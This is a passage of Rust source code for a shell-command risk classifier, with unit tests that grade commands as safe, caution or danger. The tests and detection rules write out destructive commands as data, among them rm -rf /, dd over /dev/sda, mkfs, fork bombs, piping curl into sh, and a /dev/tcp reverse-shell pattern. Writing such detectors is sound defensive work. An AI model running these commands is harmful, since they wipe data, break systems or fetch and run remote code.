        if matches!(r.kind, RedirKind::Heredoc) {
            texts.push(r.body.clone());
        }
        if matches!(r.kind, RedirKind::Herestring) {
            texts.push(r.target.text.clone());
        }
    }
    if let Some(p) = ctx.prev {
        if let Some(e) = unwrap_cmd(&p.words) {
            if matches!(e.name.as_str(), "echo" | "printf") {
                texts.push(
                    e.args
                        .iter()
                        .map(|w| w.text.as_str())
                        .collect::<Vec<_>>()
                        .join(" "),
                );
            }
        }
    }
    for t in &texts {
        if let Some(why) = sql_is_destructive(t) {
            acc.danger(format!("{name}: {why}"));
            return;
        }
    }
    if texts.iter().any(|t| sql_mutates(t)) {
        acc.caution(format!("{name} modifies the database"));
    } else if ctx.cmd.redirs.iter().any(|r| r.kind == RedirKind::Read)
        || ctx
            .args
            .iter()
            .any(|a| *a == "-f" || a.starts_with("--file"))
    {
        acc.caution(format!("{name} runs an SQL script"));
    }
}

fn analyze_ssh(ctx: &Ctx, acc: &mut Acc) {
    let args = ctx.args;
    let takes = |o: &str| {
        o.len() == 2 && "BbcDEeFIiJLlmOoPpQRSWw".contains(o.chars().nth(1).unwrap_or(' '))
    };
    let mut i = 0;
    let mut host_seen = false;
    while i < args.len() {
        let a = args[i];
        if a.starts_with('-') && a.len() > 1 {
            if takes(a) {
                i += 1;
            }
        } else if !host_seen {
            host_seen = true;
        } else {
            let remote = args[i..].join(" ");
            assess_script(&remote, ctx.depth + 1, acc);
            return;
        }
        i += 1;
    }
}

fn analyze_net(ctx: &Ctx, acc: &mut Acc) {
    let name = ctx.eff.name.as_str();
    let a = ctx.args;
    let read = match name {
        "ip" => a.iter().all(|x| {
            matches!(
                *x,
                "a" | "addr"
                    | "address"
                    | "link"
                    | "route"
                    | "r"
                    | "neigh"
                    | "n"
                    | "show"
                    | "list"
                    | "ls"
                    | "-br"
                    | "-c"
                    | "-s"
                    | "-4"
                    | "-6"
                    | "-j"
                    | "-d"
                    | "rule"
                    | "monitor"
                    | "get"
                    | "dev"
                    | "-details"
                    | "-brief"
                    | "maddr"
                    | "tunnel"
            ) || !x.starts_with('-') && a.iter().any(|y| *y == "show" || *y == "get")
        }),
        "ifconfig" => a.len() <= 1,
        "route" => a.iter().all(|x| x.starts_with('-')),
        "nmcli" => !a.iter().any(|x| {
            matches!(
                *x,
                "down"
                    | "delete"
                    | "modify"
                    | "add"
                    | "up"
                    | "connect"
                    | "disconnect"
                    | "off"
                    | "on"
                    | "reload"
            )
        }),
        "brctl" => a.iter().any(|x| x.starts_with("show")),
        "iwconfig" => a.len() <= 1,
        "netplan" => a
            .first()
            .is_some_and(|x| *x == "get" || *x == "info" || *x == "status"),
        _ => false,
    };
    if !read {
        if a.iter()
            .any(|x| *x == "down" || *x == "disconnect" || *x == "off" || *x == "flush")
        {
            acc.caution(format!(
                "{name} takes a network interface down (can cut off a remote session)"
            ));
        } else {
            acc.caution(format!("{name} changes network configuration"));
        }
    }
}

fn analyze_pkg(ctx: &Ctx, acc: &mut Acc) {
    let name = ctx.eff.name.as_str();
    let pos = ctx.positionals();
    let sub = pos.first().map(|w| w.text.as_str()).unwrap_or("");
    let read_subs = [
        "search",
        "show",
        "list",
        "info",
        "policy",
        "depends",
        "rdepends",
        "showpkg",
        "madison",
        "outdated",
        "help",
        "--version",
        "version",
        "whatprovides",
        "provides",
        "repolist",
        "check",
        "query",
        "audit",
        "ls",
        "view",
        "why",
        "freeze",
        "config",
        "download",
        "changelog",
        "doctor",
        "home",
        "deps",
        "leaves",
        "cache",
        "env",
        "tree",
        "run",
        "test",
        "build",
        "fmt",
        "clippy",
        "doc",
        "bench",
        "vet",
        "mod",
        "fetch",
        "metadata",
        "-v",
        "pack",
        "exec",
        "start",
        "serve",
        "dev",
        "lint",
        "init",
        "new",
        "create",
        "pkg",
        "interfaces",
        "find",
        "history",
    ];
    let read_flags = [
        "-Q", "-Qi", "-Ql", "-Qs", "-Ss", "-Si", "-Qe", "-Qdt", "-Qo", "-l", "-L", "-s", "-q",
        "-qa", "-qf", "-qi", "-ql", "-I", "-c", "--list", "--status", "-S",
    ];
    if name == "dpkg" || name == "rpm" || name == "pacman" {
        let first = ctx.args.first().copied().unwrap_or("");
        let remove = ctx.args.iter().any(|a| {
            matches!(
                *a,
                "-P" | "--purge"
                    | "-r"
                    | "--remove"
                    | "-e"
                    | "--erase"
                    | "-R"
                    | "-Rs"
                    | "-Rns"
                    | "-Rsc"
                    | "-Rdd"
                    | "-Rcns"
            )
        });
        if remove {
            if ctx.args.iter().any(|a| {
                a.contains("--nodeps")
                    || *a == "-Rdd"
                    || *a == "--force-all"
                    || a.starts_with("--force-remove")
            }) {
                acc.danger(format!(
                    "{name} removes packages ignoring dependencies (can break the system)"
                ));
            } else {
                acc.caution(format!("{name} removes packages"));
            }
            return;
        }
        if name == "dpkg"
            && matches!(
                first,
                "-l" | "-L"
                    | "-s"
                    | "-S"
                    | "-I"
                    | "-c"
                    | "--list"
                    | "--status"
                    | "--get-selections"
                    | "-p"
                    | "--print-architecture"
            )
        {
            return;
        }
        if name == "rpm" && first.starts_with("-q") {
            return;
        }
        if name == "pacman"
            && (first.starts_with("-Q")
                || first.starts_with("-Ss")
                || first.starts_with("-Si")
                || first == "-Sl")
        {
            return;
        }
        if !ctx.args.is_empty() {
            acc.caution(format!("{name} installs or changes packages"));
        }
        return;
    }
    let sub_lc = sub.to_ascii_lowercase();
    if sub.is_empty()
        && ctx
            .args
            .iter()
            .all(|a| read_flags.contains(a) || *a == "--version" || *a == "-h" || *a == "--help")
    {
        return;
    }
    if read_subs.contains(&sub_lc.as_str()) && !(name == "go" && matches!(sub, "install" | "get")) {
        if (name == "npm" || name == "pnpm" || name == "yarn") && sub == "run" {
            return;
        }
        if name.starts_with("pip")
            && sub == "cache"
            && pos
                .get(1)
                .is_some_and(|w| w.text == "purge" || w.text == "remove")
        {
            acc.caution("clears the pip cache");
        }
        if name == "cargo"
            && matches!(
                sub,
                "build"
                    | "run"
                    | "test"
                    | "fmt"
                    | "clippy"
                    | "doc"
                    | "bench"
                    | "fetch"
                    | "metadata"
                    | "new"
                    | "init"
            )
        {
            return;
        }
        return;
    }
    if name == "go" && !matches!(sub, "install" | "get" | "clean") {
        return;
    }
    let removes = matches!(
        sub_lc.as_str(),
        "remove"
            | "purge"
            | "autoremove"
            | "erase"
            | "uninstall"
            | "rm"
            | "del"
            | "delete"
            | "-r"
            | "urpme"
            | "prune"
            | "clean"
    );
    // Removing packages with a catch-all pattern.
    if removes
        && pos.iter().skip(1).any(|w| {
            matches!(w.text.as_str(), "*" | ".*" | "'*'")
                || w.text == "libc6"
                || w.text == "systemd"
                || w.text == "sudo"
                || w.text == "openssh-server"
                || w.text == "python3" && name.starts_with("apt")
        })
    {
        acc.danger(format!(
            "{name} {sub} of core packages or everything (can break the system)"
        ));
        return;
    }
    if name == "urpme" {
        acc.caution("removes packages");
        return;
    }
    if removes {
        acc.caution(format!("{name} {sub} removes packages"));
    } else {
        acc.caution(format!("{name} {sub} installs or changes packages").replace("  ", " "));
    }
}

fn analyze_interpreter(ctx: &Ctx, acc: &mut Acc) {
    let name = ctx.eff.name.as_str();
    let args = ctx.args;
    let words = ctx.eff.args;
    // Downloaded script piped into the interpreter.
    let upstream_downloads = ctx.upstream.iter().any(|c| {
        unwrap_cmd(&c.words)
            .is_some_and(|e| DOWNLOADERS.contains(&e.name.to_ascii_lowercase().as_str()))
            || c.words
                .iter()
                .any(|w| w.subs.iter().any(|s| script_downloads(s)))
    });
    // `sh -s -- args` reads the script from stdin; words after `--` are its arguments.
    let reads_stdin = is_shell(name) && has_flag(args, 's', &[]);
    let before_ddash: Vec<Word> = words
        .iter()
        .take_while(|w| w.text != "--")
        .cloned()
        .collect();
    let has_script_file = !reads_stdin
        && positionals(&before_ddash)
            .first()
            .is_some_and(|w| w.text != "-" && !w.procsub);
    // `echo 'rm -rf /' | sh`: the printed text is the script.
    if is_shell(name) && !has_script_file {
        if let Some(e) = ctx.prev.and_then(|p| unwrap_cmd(&p.words)) {
            if matches!(e.name.as_str(), "echo" | "printf") {
                let text: Vec<&str> = e
                    .args
                    .iter()
                    .map(|w| w.text.as_str())
                    .filter(|a| !(a.starts_with('-') && a.len() == 2))
                    .collect();
                assess_script(&text.join(" ").replace("\\n", "\n"), ctx.depth + 1, acc);
            }
        }
    }
    let c_index = args.iter().position(|a| {
        a.starts_with('-')
            && !a.starts_with("--")
            && (a[1..].contains('c') && is_shell(name)
                || matches!(*a, "-c" | "-e" | "-E")
                || a.ends_with('e') && name == "perl"
                || *a == "-Command")
    });
    if upstream_downloads
        && (!has_script_file
            || c_index.is_none() && positionals(words).first().is_some_and(|w| w.text == "-"))
        && c_index.is_none()
    {
        acc.danger(format!("pipes a downloaded script into {name}"));
    }
    if words
        .iter()
        .any(|w| w.procsub && w.subs.iter().any(|s| script_downloads(s)))
    {
        acc.danger(format!("runs a downloaded script with {name} <(…)"));
    }
    for r in &ctx.cmd.redirs {
        if r.kind == RedirKind::Read
            && r.target.procsub
            && r.target.subs.iter().any(|s| script_downloads(s))
        {
            acc.danger(format!("feeds a downloaded script into {name}"));
        }
        if r.kind == RedirKind::Heredoc && is_shell(name) && !has_script_file {
            assess_script(&r.body, ctx.depth + 1, acc);
        }
        if r.kind == RedirKind::Herestring && is_shell(name) {
            if r.target.subs.iter().any(|s| script_downloads(s)) {
                acc.danger(format!("feeds a downloaded script into {name}"));
            }
            assess_script(&r.target.text, ctx.depth + 1, acc);
        }
    }
    if let Some(ci) = c_index {
        if let Some(script) = words.get(ci + 1) {
            if script.subs.iter().any(|s| script_downloads(s)) {
                acc.danger(format!(
                    "runs a downloaded script with {name} -c \"$(curl …)\""
                ));
            }
            if is_shell(name) {
                assess_script(&script.text, ctx.depth + 1, acc);
            } else {
                let code = script.text.replace(' ', "");
                if code.contains("forkwhilefork")
                    || code.contains("os.fork()") && code.contains("while")
                    || code.contains("fork()while")
                {
                    acc.danger(format!("{name} fork bomb"));
                }
                if code.contains("shutil.rmtree('/')")
                    || code.contains("shutil.rmtree(\"/\")")
                    || code.contains("rmtree(os.path.expanduser('~'))")
                {
                    acc.danger(format!("{name} deletes the whole filesystem or home"));
                }
                // Shell commands the code hands to a shell (system, exec, backticks…).
                for inner in interpreter_shell_strings(&script.text) {
                    assess_script(&inner, ctx.depth + 1, acc);
                }
            }
        }
    }
    // Reverse shells: bash -i >& /dev/tcp/host/port 0>&1
    if is_shell(name)
        && ctx.cmd.redirs.iter().any(|r| {
            r.target.text.starts_with("/dev/tcp/") || r.target.text.starts_with("/dev/udp/")
        })
    {
        acc.danger("opens a reverse shell to a remote host");
    }
}

/// The string literals in interpreter code (`perl -e`, `python3 -c`, `ruby -e`, `node -e`)
/// that the code runs through a shell: only when the code calls one (`system`, `exec`,
/// `popen`, backticks, `qx`, `subprocess`, `child_process`), so printing a dangerous string
/// stays harmless.
fn interpreter_shell_strings(code: &str) -> Vec<String> {
    const RUNS_SHELL: &[&str] = &[
        "system",
        "exec",
        "popen",
        "spawn",
        "subprocess",
        "child_process",
        "qx",
        "`",
        "%x",
    ];
    if !RUNS_SHELL.iter().any(|k| code.contains(k)) {
        return Vec::new();
    }
    let mut out = Vec::new();
    let chars: Vec<char> = code.chars().collect();
    let mut i = 0;
    while i < chars.len() {
        let c = chars[i];
        // Perl's q{…}, qq{…}, qx{…}, q(…): a quote-like operator with a bracket.
        let perl_open = if c == 'q' {
            let j = if chars.get(i + 1).is_some_and(|&n| n == 'q' || n == 'x') {
                i + 2
            } else {
                i + 1
            };
            chars
                .get(j)
                .and_then(|&b| match b {
                    '{' => Some((j, '}')),
                    '(' => Some((j, ')')),
                    '[' => Some((j, ']')),
                    _ => None,
                })
                .filter(|_| i == 0 || !chars[i - 1].is_alphanumeric())
        } else {
            None
        };
        let (start, close) = match (c, perl_open) {
            (_, Some((j, close))) => (j + 1, close),
            ('\'' | '"' | '`', None) => (i + 1, c),
            _ => {
                i += 1;
                continue;
            }
        };
        let mut j = start;
        while j < chars.len() && chars[j] != close {
            if chars[j] == '\\' {
                j += 1;
            }
            j += 1;
        }
        let end = j.min(chars.len());
        if start <= end {
            out.push(chars[start..end].iter().collect());
        }
        i = end + 1;
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn lvl(c: &str) -> RiskLevel {
        assess(c).level
    }

    #[test]
    fn interpreters_running_shell_commands() {
        assert_eq!(lvl(r#"perl -e "system(q{rm -rf /})""#), RiskLevel::Danger);
        assert_eq!(
            lvl(r#"python3 -c "import os; os.system('rm -rf ~')""#),
            RiskLevel::Danger
        );
        assert_eq!(
            lvl(r#"node -e "require('child_process').execSync('mkfs.ext4 /dev/sda')""#),
            RiskLevel::Danger
        );
        // Printing a dangerous string runs nothing.
        assert_eq!(lvl(r#"python3 -c "print('rm -rf /')""#), RiskLevel::Safe);
        assert_eq!(lvl(r#"perl -pe 's/foo/bar/' notes.txt"#), RiskLevel::Safe);
    }

    #[test]
    fn anything_moved_onto_dev_null_is_danger() {
        assert_eq!(lvl("mv ~/.ssh /dev/null"), RiskLevel::Danger);
        assert_eq!(lvl("mv report.txt /dev/null"), RiskLevel::Danger);
        assert_eq!(lvl("mv a.txt b.txt"), RiskLevel::Caution);
    }

    #[test]
    fn recursive_root_deletes_are_danger() {
        for c in [
            "rm -rf /",
            "rm -fr /",
            "rm -r -f /",
            "rm --recursive --force /",
            "rm -Rf /*",
            "sudo rm -rf /",
            "sudo rm -rf --no-preserve-root /",
            "rm -rf / tmp/foo",
            "rm -rf \"/\"",
            "\\rm -rf /",
            "/bin/rm -rf //",
            "rm -rf ~",
            "rm -rf ~/",
            "rm -rf $HOME",
            "rm -rf \"${HOME}\"/*",
            "rm -rf .",
            "rm -rf ..",
            "rm -rf *",
            "rm -rf ./*",
            "rm -rf /etc",
            "rm -rf /usr/lib",
            "rm -rf /home/*",
            "rm -rf \"$STEAMROOT/\"*",
            "sudo -u root rm -rf /var",
            "env FOO=1 nice -n 5 rm -rf /boot",
            "timeout 5 rm -rf /usr",
        ] {
            assert_eq!(lvl(c), RiskLevel::Danger, "{c}");
        }
    }

    #[test]
    fn ordinary_deletes_are_caution() {
        for c in [
            "rm -rf ./build",
            "rm -rf node_modules",
            "rm file.txt",
            "rm -rf /tmp/foo",
            "rm -rf /usr/local/go",
            "sudo rm -rf /var/lib/apt/lists/*",
            "rm -rf \"${BUILD_DIR:?}/\"*",
            "rm -rf $TMPDIR/cache",
        ] {
            assert_eq!(lvl(c), RiskLevel::Caution, "{c}");
        }
    }

    #[test]
    fn quoted_or_searched_text_is_safe() {
        for c in [
            "echo \"rm -rf /\"",
            "grep -r \"rm -rf\" .",
            "find / -name x",
            "printf 'dd if=/dev/zero of=/dev/sda'",
            "# rm -rf /",
            "ls -la /",
            "git log --oneline",
        ] {
            assert_eq!(lvl(c), RiskLevel::Safe, "{c}");
        }
    }

    #[test]
    fn nested_scripts_are_followed() {
        for c in [
            "bash -c 'rm -rf /'",
            "sh -c \"sudo rm -rf ~\"",
            "eval \"rm -rf /\"",
            "echo $(rm -rf /)",
            "x=`rm -rf /`",
            "(cd / && rm -rf *)",
            "ssh host 'rm -rf /'",
            "find / -name '*.log' -delete",
            "find / -type f -exec rm -f {} \\;",
            "find / | xargs rm -rf",
            "bash <<EOF\nrm -rf /\nEOF",
            "if true; then rm -rf /; fi",
        ] {
            assert_eq!(lvl(c), RiskLevel::Danger, "{c}");
        }
    }

    #[test]
    fn download_and_execute() {
        for c in [
            "curl -fsSL https://example.com/install.sh | sh",
            "wget -O- https://x.y/z | sudo bash",
            "bash <(curl -s https://x.y/z)",
            "sh -c \"$(curl -fsSL https://raw.githubusercontent.com/ohmyzsh/ohmyzsh/master/tools/install.sh)\"",
            "curl -sSL https://install.python-poetry.org | python3 -",
        ] {
            assert_eq!(lvl(c), RiskLevel::Danger, "{c}");
        }
        assert_eq!(
            lvl("curl -fsSL https://example.com/a.tar.gz | tar xz"),
            RiskLevel::Safe
        );
    }

    #[test]
    fn disks() {
        assert_eq!(lvl("dd if=/dev/zero of=/dev/sda bs=1M"), RiskLevel::Danger);
        assert_eq!(
            lvl("sudo dd if=ubuntu.iso of=/dev/nvme0n1 status=progress"),
            RiskLevel::Danger
        );
        assert_eq!(
            lvl("dd if=/dev/zero of=./disk.img bs=1M count=100"),
            RiskLevel::Caution
        );
        assert_eq!(lvl("mkfs.ext4 /dev/sdb1"), RiskLevel::Danger);
        assert_eq!(lvl("cat image.iso > /dev/sdb"), RiskLevel::Danger);
        assert_eq!(lvl("fdisk -l"), RiskLevel::Safe);
        assert_eq!(lvl("echo hi > /dev/null"), RiskLevel::Safe);
    }

    #[test]
    fn repairs_are_not_alarms_but_wholesale_find_deletes_are() {
        assert_eq!(lvl("sudo chown root:root /etc/sudoers"), RiskLevel::Caution);
        assert_eq!(lvl("sudo chmod 440 /etc/sudoers"), RiskLevel::Caution);
        assert_eq!(lvl("sudo chown bob /etc/shadow"), RiskLevel::Danger);
        assert_eq!(lvl("find . -type f -delete"), RiskLevel::Danger);
        assert_eq!(
            lvl("find . -type f -name '*.pyc' -delete"),
            RiskLevel::Caution
        );
    }

    #[test]
    fn fork_bombs() {
        assert_eq!(lvl(":(){ :|:& };:"), RiskLevel::Danger);
        assert_eq!(lvl("bomb() { bomb | bomb & }; bomb"), RiskLevel::Danger);
        assert_eq!(lvl("f() { echo hi; }; f"), RiskLevel::Safe);
    }

    #[test]
    fn git_levels() {
        assert_eq!(lvl("git push --force origin main"), RiskLevel::Danger);
        assert_eq!(lvl("git push -f"), RiskLevel::Danger);
        assert_eq!(lvl("git push --force-with-lease"), RiskLevel::Caution);
        assert_eq!(lvl("git reset --hard HEAD~1"), RiskLevel::Caution);
        assert_eq!(lvl("git clean -fdx"), RiskLevel::Caution);
        assert_eq!(lvl("git reset --hard && git clean -fdx"), RiskLevel::Danger);
        assert_eq!(lvl("git status"), RiskLevel::Safe);
    }

    #[test]
    fn reasons_are_given() {
        let r = assess("rm -rf $HOME");
        assert!(
            r.reasons.iter().any(|s| s.contains("home directory")),
            "{:?}",
            r.reasons
        );
        let r = assess("curl https://x | sh");
        assert!(
            r.reasons.iter().any(|s| s.contains("downloaded script")),
            "{:?}",
            r.reasons
        );
        assert!(assess("ls").reasons.is_empty());
    }

    #[test]
    fn garbage_never_panics() {
        // Deterministic xorshift so the test is reproducible without extra deps.
        let alphabet: Vec<char> = "rm -rf/~$(){}[]'\"`\\|&;<>*?#\n\t=.:!-_abcEOF<<ü€"
            .chars()
            .collect();
        let mut s: u64 = 0x9E37_79B9_7F4A_7C15;
        for _ in 0..20_000 {
            s ^= s << 13;
            s ^= s >> 7;
            s ^= s << 17;
            let len = (s % 40) as usize;
            let mut cmd = String::new();
            let mut t = s;
            for _ in 0..len {
                t = t
                    .wrapping_mul(6364136223846793005)
                    .wrapping_add(1442695040888963407);
                cmd.push(alphabet[(t >> 33) as usize % alphabet.len()]);
            }
            let _ = assess(&cmd);
        }
        let deep = "$(".repeat(5000);
        let _ = assess(&deep);
        let _ = assess(&"(".repeat(5000));
        let _ = assess("bash -c ".repeat(200).as_str());
    }
}
